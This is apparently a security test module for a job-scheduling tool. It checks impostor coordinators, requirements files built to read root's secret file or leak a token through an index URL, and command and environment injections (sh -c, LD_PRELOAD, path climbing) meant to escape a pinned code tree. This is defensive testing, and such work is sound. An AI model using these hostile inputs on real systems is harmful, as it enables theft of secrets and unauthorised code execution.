"""The security cases that need workers: an impostor, hostile environments, other programs on a pinned machine."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any

from fleet import Coordinator
from security_requests import expected, invited, order, submission, uploads_of
from security_scene import (
    NotAsExpected,
    Scene,
    Started,
    Tried,
    ask_as_owner,
    asked,
    attacking,
    free_port,
    request,
    said_by,
    state_of,
    target_of,
    token_for,
    wait_until,
)

from stoker.host.certificates import Signer, make_ca, make_key
from stoker.jobs.pack.environment_files import gather
from tests.servers import attacker
from tests.unit.worker.tiny_wheels import wheel

OPERATORS_TOKEN = "the-operators-token-of-this-case"  # noqa: S105 - it opens nothing else
SECRET = "of-root-alone"  # noqa: S105 - what must not be seen
USERS = 20_000_000 + 4 * os.getpid()
"""The first of two that nobody has: whatever runs as them is ended with a job."""
ENDED = ("completed", "failed", "cancelled")

# 1


def impostor(scene: Scene) -> Iterator[Tried]:
    """Take the port and the socket's place of a coordinator that is down, and wait for its workers and commands."""
    if scene.quick:
        with scene.serving() as coordinator:
            yield from _strangers(coordinator)
    taken = scene.place("taken", mode=0o777, user=attacker.NOBODY)
    port = free_port()
    settings = {"STOKER_RUNTIME": str(taken), "STOKER_OPERATOR_TOKEN": OPERATORS_TOKEN}
    words = ("--lease", "6s", "--heartbeat", "0.5s")
    url, home = f"http://127.0.0.1:{port}", scene.place("home", mode=0o700)
    if scene.quick:
        yield from _deceived(scene, url, None, settings)
        return
    with ExitStack() as held:
        with scene.serving(*words, listen=f"127.0.0.1:{port}", **settings) as coordinator:
            yield from _strangers(coordinator)
            asked_for = ("work", "--name", "victim", "--json")
            victim = held.enter_context(scene.started(home, *asked_for, **settings))
            victim.wait_for("joined")
        yield from _deceived(scene, url, victim, settings)
        # The worker that waited takes up its work when the real one is back.
        with scene.serving(*words, listen=f"127.0.0.1:{port}", **settings) as coordinator:
            job = order("after", "true", folder="/")
            ask_as_owner(coordinator, "POST", "/v1/jobs", submission(job))
            wait_until(lambda: state_of(coordinator, "after") == "completed", "a job after the impostor")
    yield from _deceived_over_tls(scene)


def _strangers(coordinator: Coordinator) -> Iterator[Tried]:
    """Ask all that the coordinator's own user may, over TCP without credentials."""
    paths = ("/v1/jobs", "/v1/status", "/v1/events", "/v1/tokens", "/metrics")
    posts = ("/v1/hello", "/v1/claims", "/v1/renewals", "/v1/job/claim", "/v1/uploads", "/v1/jobs", "/v1/tokens")
    requests = [*(request("GET", path) for path in paths), *(request("POST", path, {}) for path in posts)]
    for one, (status, _) in zip(requests, asked(target_of(coordinator), requests), strict=True):
        through = "" if status in (401, 404) else f"answered {status}"
        yield Tried(what=f"{one['method']} {one['path']} as a stranger", through=through)


@contextmanager
def _impostor(scene: Scene, port: int, **more: str) -> Iterator[tuple[Path, Path]]:
    """Have an attacker listen in a coordinator's place; yield what it hears, and what its job would make."""
    place = scene.place("impostor", mode=0o777, user=attacker.NOBODY)
    heard, mark = place / f"heard-{port}", place / "mark"
    with attacking("impostor", port=port, heard=str(heard), mark=str(mark), **more) as process:
        said_by(process)
        yield heard, mark


def _deceived(scene: Scene, url: str, victim: Started | None, settings: dict[str, str]) -> Iterator[Tried]:
    """Let workers and commands find an impostor, over the socket and over TCP; without a worker, a command alone."""
    port = int(url.rpartition(":")[2])
    other = scene.place("other", mode=0o700)
    with _impostor(scene, port, path=f"{settings['STOKER_RUNTIME']}/{port}.sock") as (heard, mark):
        commands: dict[str, tuple[str, ...]] = {"jobs": ("jobs", "--at", url)}
        if victim is not None:
            with scene.started(other, "work", "--join", url, "--name", "second", "--json", **settings) as second:
                second.wait_for("away")
                victim.wait_for("away")
            yield Tried(what="a worker over its socket", through=_heard(heard, mark))
            yield Tried(what="a worker over TCP", through=_heard(heard, mark))
            commands |= {"submit": ("submit", "--at", url, "-y", "--", "true"), "status": ("status", "--at", url)}
        for what, words in commands.items():
            done = scene.stoker(other, *words, **settings)
            through = _heard(heard, mark) or ("" if done.returncode else "it went well")
            yield Tried(what=f"stoker {what} with a token", through=through)


def _heard(heard: Path, mark: Path) -> str:
    data = heard.read_bytes()
    if OPERATORS_TOKEN.encode() in data:
        return "the token was sent"
    if mark.exists():
        return "a job was started"
    return f"it was asked: {data[:100]!r}" if data else ""


def _deceived_over_tls(scene: Scene) -> Iterator[Tried]:
    """Let a machine that joined over TLS find an impostor with a certificate of its own."""
    port = free_port()
    machine = scene.place("machine", mode=0o700)
    pem = scene.place("impostor", mode=0o777, user=attacker.NOBODY) / "own.pem"
    pem.write_text(_self_made())
    with ExitStack() as held:
        with scene.serving(name="tls", listen=f"0.0.0.0:{port}") as coordinator:
            joined = scene.stoker(machine, "join", invited(scene, coordinator), "--name", "remote", "--json")
            if joined.returncode:
                raise NotAsExpected(joined.stderr)
            working = held.enter_context(scene.started(machine, "work", "--json"))
            working.wait_for("joined")
        with _impostor(scene, port, certificate=str(pem)) as (heard, mark):
            working.wait_for("away")
            yield Tried(what="a worker over TLS", through=_heard(heard, mark))


def _self_made() -> str:
    """Return a certificate of a CA that the fleet does not know, and its key."""
    key = make_key()
    signed = Signer(make_ca("impostor", now_s=time.time())).server(key, ["127.0.0.1"], now_s=time.time())
    return signed.certificate_pem + key


# 3


def hostile_environments(scene: Scene) -> Iterator[Tried]:
    """Submit environments and inputs that name files of root to a worker that builds and runs as other users."""
    secret = scene.place("private", mode=0o700) / "secrets.txt"
    secret.write_text(f"{SECRET} == '1.0'\n")
    secret.chmod(0o600)
    remote = free_port()
    with scene.serving() as coordinator, _impostor(scene, remote) as (heard, _):
        token = token_for(coordinator, "ben")
        orders = [
            _project(scene, "honest", "--find-links wheels\nalpha==1.0\n", token, coordinator),
            *_hostile_orders(scene, secret, remote, token, coordinator),
            *_spies(secret),
        ]
        target = target_of(coordinator)
        expected(asked(target, [request("POST", "/v1/jobs", submission(one), token=token) for one in orders]))
        settings = {"UV_NO_INDEX": "1", "PRIVATE": str(secret.parent), "MY_TOKEN": SECRET}
        words = ("work", "--name", "jail", "--slots", "2", "--run-as", f"{USERS}-{USERS + 1}", "--json")
        os.utime(secret, (1, secret.stat().st_mtime))
        with scene.started(coordinator.home, *words, **settings):
            wait_until(lambda: state_of(coordinator, "honest") in ENDED, "the honest environment")
            if state_of(coordinator, "honest") != "completed":
                raise NotAsExpected(f"the honest environment: {_shown(coordinator, 'honest')[-3000:]}")
            for one in orders[1:]:
                yield _judged(coordinator, one["name"], may_start=True)
        yield Tried(
            what="remote includes", through=f"asked: {heard.read_bytes()[:100]!r}" if heard.stat().st_size else ""
        )
        what = "whether root's file was read at all"
        if _notes_reads(secret.parent / "control.txt"):
            yield Tried(what=what, through="" if secret.stat().st_atime == 1 else "it was opened")
        else:
            scene.missing[what] = "the file system does not note when files are read"
    for number in (USERS, USERS + 1):
        Path(f"/run/stoker/users/{number}.lock").unlink(missing_ok=True)


def _notes_reads(control: Path) -> bool:
    """Check whether reading a file sets its time of access, where that is older than the last change."""
    control.write_text("read")
    os.utime(control, (1, control.stat().st_mtime))
    control.read_text()
    return control.stat().st_atime != 1


def _hostile_orders(
    scene: Scene, secret: Path, remote: int, token: str, coordinator: Coordinator
) -> list[dict[str, Any]]:
    path, folder = str(secret), str(secret.parent)
    texts = {
        "variable": "-r ${PRIVATE}/secrets.txt\n",
        "quotes": f'-r "{path}"\n',
        "remote": f"-r http://127.0.0.1:{remote}/evil.txt\n",
        "nested": "-r sub/more.txt\n",
        "absolute": f"-r {path}\n",
        "climbing": f"-r {'../' * 12}{path[1:]}\n",
        "single-quotes": f"-r '{path}'\n",
        "equals": f"--requirement={path}\n",
        "constraint": f"-c {path}\n",
        "continued": f"-r \\\n{path}\n",
        "after-bom": f"\ufeff-r {path}\n",
        "after-nul": f"alpha\0\n-r {path}\n",
        "in-a-comment": f"alpha #\\\n-r {path}\n",
        "address": f"alpha @ file://{path}\n",
        "variable-address": "alpha @ file://${PRIVATE}/secrets.txt\n",
        "links": f"--find-links {folder}\n",
        "index": f"--index-url http://127.0.0.1:{remote}/${{MY_TOKEN}}/simple\nalpha\n",
        "editable": f"-e {folder}\n",
    }
    # What is checked before it is expanded finds a file of the project.
    decoys = {"${PRIVATE}/secrets.txt": b"", f"'{path}'": b"", f'"{path}"': b""}
    decoys["sub/more.txt"] = f"-r {path}\n-c ${{PRIVATE}}/secrets.txt\n".encode()
    return [_project(scene, name, text, token, coordinator, **decoys) for name, text in texts.items()]


def _project(
    scene: Scene, name: str, requirements: str, token: str, coordinator: Coordinator, **more: bytes
) -> dict[str, Any]:
    """Bring a project to the coordinator as its submitter; return an order of its program, with its environment."""
    folder = scene.place(f"project-{name}")
    files = {
        "requirements.txt": requirements.encode(),
        "train.py": b"import alpha, os\nopen(os.environ['STOKER_OUT'] + '/told', 'w').write(alpha.VERSION)\n",
        "wheels/alpha-1.0-py3-none-any.whl": Path(wheel(str(folder / "made"), "alpha")).read_bytes(),
        **more,
    }
    for path, data in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(data)
    try:
        digest = gather(str(folder), "requirements.txt").digest
    except Exception:  # noqa: BLE001 - an attacker says whatever digest they like
        digest = "0" * 64
    tree, uploads = uploads_of(files, token)
    expected(asked(target_of(coordinator), uploads))
    environment = [{"kind": "requirements", "path": "requirements.txt", "digest": digest}]
    return order(name, "python", "train.py", code_tree=tree, environment=environment)


def _spies(secret: Path) -> list[dict[str, Any]]:
    """Order programs that name root's file as an input, by its path and by a digest that is guessed."""
    args = {"inputs": [str(secret)]}
    guessed = {"argv": ["true"], "params": {"name": "guesser"}, "inputs": [{"content": f"sha256:{'0' * 64}"}]}
    return [
        order("spy", "true", args=args, folder="/"),
        order("guesser", "true", args=args, identity=guessed, folder="/"),
    ]


def _judged(coordinator: Coordinator, name: str, *, may_start: bool) -> Tried:
    """Wait until a machine has refused a job, or it has ended; see that it shows nothing of root's."""
    wait_until(lambda: _is_refused(coordinator, name) or state_of(coordinator, name) in ENDED, f"a verdict on {name}")
    shown, state = _shown(coordinator, name), state_of(coordinator, name)
    attempts = ask_as_owner(coordinator, "GET", f"/v1/jobs/{name}")["attempts"]
    is_started = state == "completed" or (not may_start and any(one["started_s"] for one in attempts))
    through = "root's file is shown" if SECRET in shown else "it was started" if is_started else ""
    return Tried(what=name, through=through)


def _is_refused(coordinator: Coordinator, name: str) -> bool:
    said = ask_as_owner(coordinator, "GET", f"/v1/jobs/{name}/explain")
    return bool(said["never"] or said["declines"])


def _shown(coordinator: Coordinator, name: str) -> str:
    """Return all that a submitter can see of a job: its story, why it waits, and its files."""
    parts = [ask_as_owner(coordinator, "GET", f"/v1/jobs/{name}{more}") for more in ("", "/explain", "/events")]
    text = json.dumps(parts)
    if parts[0]["attempts"]:
        listed = ask_as_owner(coordinator, "GET", f"/v1/jobs/{name}/files")["files"]
        for file in listed:
            text += str(ask_as_owner(coordinator, "GET", f"/v1/jobs/{name}/files/{file['path']}"))
    return text


# 4


def pinned(scene: Scene) -> Iterator[Tried]:
    """Name an accepted tree, and start something else."""
    marks = scene.place("marks", mode=0o777)
    evil = f"open({str(marks / 'evil')!r}, 'w')"
    files = {"train.py": b"print('well')\n", "evil.txt": evil.encode(), "lib/__init__.py": b""}
    with scene.serving() as coordinator:
        token, target = token_for(coordinator, "ben"), target_of(coordinator)
        tree, uploads = uploads_of(files, token)
        other, more = uploads_of({"train.py": evil.encode()}, token)
        expected(asked(target, [*uploads, *more]))
        orders = [order("good", "python", "train.py", code_tree=tree)]
        for name, fields in _other_starts(evil, other, marks).items():
            argv = fields.pop("argv", ["python", "train.py"])
            orders.append(order(name, *argv, **{"code_tree": tree, **fields}))
        expected(asked(target, [request("POST", "/v1/jobs", submission(one), token=token) for one in orders]))
        with scene.started(coordinator.home, "work", "--name", "pinned", "--accept-code", tree, "--json"):
            wait_until(lambda: state_of(coordinator, "good") in ENDED, "the accepted program")
            if state_of(coordinator, "good") != "completed":
                raise NotAsExpected(f"the accepted program: {_shown(coordinator, 'good')[-2000:]}")
            for one in orders[1:]:
                yield _judged(coordinator, one["name"], may_start=False)
        yield Tried(
            what="what they would have made", through=str(list(marks.iterdir())) if any(marks.iterdir()) else ""
        )


def _other_starts(evil: str, other: str, marks: Path) -> dict[str, dict[str, Any]]:
    """Return what is ordered instead of the accepted program, by name."""
    mark = str(marks / "evil")
    script = marks.parent / "evil.py"
    script.write_text(evil)
    return {
        "python-c": {"argv": ["python", "-c", evil]},
        "flags-before-c": {"argv": ["python", "-u", "-c", evil]},
        "shell": {"argv": ["sh", "-c", f"touch {mark}"]},
        "shell-by-its-path": {"argv": ["/bin/sh", "-c", f"touch {mark}"]},
        "env": {"argv": ["env", "python", "-c", evil]},
        "a-module-elsewhere": {"argv": ["python", "-m", "timeit", "-n1", "-r1", evil]},
        "a-script-elsewhere": {"argv": ["python", str(script)]},
        "a-script-above": {"argv": ["python", f"lib/../../../../../..{script}"]},
        "no-executable": {"argv": ["./evil.txt"]},
        "no-file-of-the-tree": {"argv": ["python", "train2.py"]},
        "from-its-input": {"argv": ["python", "-"]},
        "a-start-file": {"args": {"env": {"PYTHONSTARTUP": str(script)}}},
        "a-path": {"args": {"env": {"PYTHONPATH": str(marks)}}},
        "a-library": {"args": {"env": {"LD_PRELOAD": str(script)}}},
        "a-foreign-interpreter": {"args": {"python": "/usr/bin/python3"}},
        "an-interpreter-by-its-path": {"argv": ["/usr/bin/python3", "train.py"]},
        "an-interpreter-choice": {"environment": [{"kind": "python", "path": "/usr/bin/python3"}]},
        "another-tree": {"code_tree": other},
        "no-tree": {"code_tree": "", "folder": str(marks)},
        "a-word-filled-later": {"argv": ["{name}", "train.py"]},
    }


CASES: dict[int, tuple[str, Callable[[Scene], Iterator[Tried]]]] = {
    1: ("an impostor in the coordinator's place", impostor),
    3: ("environments that name root's files", hostile_environments),
    4: ("other programs on a pinned machine", pinned),
}
